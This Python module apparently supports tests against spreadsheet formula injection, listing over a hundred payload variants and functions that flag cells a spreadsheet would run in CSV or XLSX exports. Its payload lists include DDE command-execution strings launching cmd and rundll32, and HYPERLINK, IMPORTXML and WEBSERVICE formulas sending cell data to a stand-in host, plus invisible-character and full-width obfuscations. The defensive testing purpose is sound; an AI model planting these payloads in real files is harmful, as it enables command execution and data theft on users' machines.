"""Payloads that a spreadsheet would run, and what is live in a file, judged apart from the product's own guard."""

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from typing import Any

CORE = (
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://planted.invalid/?"&A1,"open")', '=IMPORTXML(CONCAT("http://planted.invalid/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("http://planted.invalid")', "=rundll32|'URL.dll,OpenURL calc'!A",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢A1", "﹣A1", "﹫SUM(1)", "=A1&\"'\"", "==1", "=-1", "-A1", "+A1",
)  # fmt: skip
BEFORE = (
    "\t", "\r", "\n", "\r\n", " ", "   ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "\u202e", "\u00ad", "\u0001",
    "\u001f", "\u0085", "\u2028", "\u200b \t", "'", "''", "'\t", "\u115f",
)  # fmt: skip
INSIDE = (
    "x;=1+1;", 'x;"=1+1;', "x\t=1+1", "x\n=1+1", "x\r\n=1+1", "x; \u200b=1+1", "x;+A1", "x;-A1", "x;@SUM(1)", "x;＝1+1",
    'x",=1+1,"', "x,=1+1", '",=1+1', '"\n=1+1', "x|=1+1", "x%0A=1+1", "%0A=1+1", "%3D1+1", ";=1+1", '";=1+1', "x';=1+1",
)  # fmt: skip


def payloads() -> list[str]:
    """A hundred and some, each of another family."""
    found = [*CORE, *(before + "=1+1" for before in BEFORE), *(before + "@SUM(1)" for before in BEFORE)]
    found += [*INSIDE, *(f"{before}+A1" for before in BEFORE[2:16])]
    return list(dict.fromkeys(found))


def _is_seen(sign: str) -> bool:
    fillers = {"\u115f", "\u1160", "\u3164", "\uffa0", "\u2800", "\u034f"}
    return unicodedata.category(sign) not in {"Cc", "Cf", "Zs", "Zl", "Zp", "Mn"} and sign not in fillers


def is_live(cell: str) -> bool:
    """Whether a spreadsheet that trims, drops what is not seen and folds widths would run the cell."""
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    seen = next((at for at, sign in enumerate(cell) if _is_seen(sign)), None)
    if seen is None:
        return False
    is_number = re.fullmatch(r"[+-]?\d+([.,]\d+)*(e[+-]?\d+)?%?", cell[seen:].strip(), re.ASCII | re.IGNORECASE)
    return unicodedata.normalize("NFKC", cell[seen]) in {*"=+-@"} and not is_number


def live_in_csv(content: bytes) -> Iterator[str]:
    """Live cells as read by comma, and as a spreadsheet reads them whose lists are separated by semicolons or tabs."""
    text = content.decode("utf-8-sig")
    yield from (cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if is_live(cell))
    for delimiter in ";\t":
        for line in re.split(r"\r\n|\r|\n", text):
            for row in csv.reader([line], delimiter=delimiter):
                yield from (f"by {delimiter!r}: {cell}" for cell in row if is_live(cell.strip()))


def live_in_xlsx(content: bytes) -> Iterator[str]:
    import openpyxl

    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            for cell in row:
                yield from _live_in(cell)


def _live_in(cell: Any) -> Iterator[str]:
    if cell.data_type == "f" or cell.hyperlink is not None:
        yield f"{cell.coordinate}: {cell.value}"
    elif isinstance(cell.value, str) and (cell.data_type != "s" or is_live(cell.value)):
        yield f"{cell.coordinate} ({cell.data_type}): {cell.value}"
